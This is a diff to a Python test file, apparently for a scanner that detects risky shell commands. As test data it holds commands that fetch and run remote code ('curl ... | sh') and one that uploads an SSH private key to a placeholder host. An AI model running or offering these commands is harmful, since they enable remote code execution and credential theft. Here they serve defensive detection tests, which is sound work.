@@ -611,3 +611,11 @@ def test_script_that_begins_like_another_format_is_read_as_a_script_as_well(
 ) -> None:
     command = "curl -o a.exe http://e.invalid/a.exe && a.exe" if name == "run.bat" else "curl http://e.invalid/a | sh"
     assert scan_text(tmp_path, name, f"{start}{command}\n{end}")[0] == 1
+
+
+@check_each(
+    "command, is_sent",
+    [("curl http://e.invalid/a -o ~/.ssh/config", False), ("curl -T ~/.ssh/id_rsa http://e.invalid", True)],
+)
+def test_file_that_a_download_writes_is_not_sent(command: str, is_sent: bool) -> None:
+    assert any(each.use == "send-private" for each in collect_script_mentions(command)) is is_sent
